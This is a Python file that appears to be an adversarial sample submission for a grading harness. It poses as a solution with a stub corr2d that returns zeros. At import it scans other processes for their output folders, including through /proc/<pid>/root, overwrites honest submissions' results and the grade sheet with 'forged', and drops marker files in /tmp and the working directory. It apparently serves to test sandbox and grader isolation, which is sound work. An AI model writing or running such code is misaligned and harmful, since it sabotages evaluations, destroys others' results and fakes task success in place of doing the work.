# solves:
"""Finds the results folder from other processes' command lines (--output; also through
/proc/<pid>/root) and overwrites the honest submissions' results, the grade sheet and a
results file of its own with 'forged', once, at load time. Leaves a marked file in /tmp and
its working directory too."""
import os
import torch
from _toolkit import LEFT_MARK, RUN_MARK, log, processes, report

targets = []
for pid, argv in processes().items():
    for flag, value in zip(argv, argv[1:]):
        if flag == "--output" and RUN_MARK in value:
            targets += [value, f"/proc/{pid}/root{value}"]
written = []
for target in targets:
    for name in ("results/honest_full.json", "results/honest_textbook.json", "results/write_results.json",
                 "final_grades.csv"):
        try:
            with open(os.path.join(target, name), "w") as handle:
                handle.write("forged")
            written.append(name)
        except OSError:
            pass
for folder in ("/tmp", os.getcwd()):
    try:
        with open(os.path.join(folder, LEFT_MARK + "forged.txt"), "w") as handle:
            handle.write("forged")
        written.append(folder)
    except OSError:
        pass
log(f"wrote {sorted(set(written))}")


def corr2d(X, K):
    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


report()
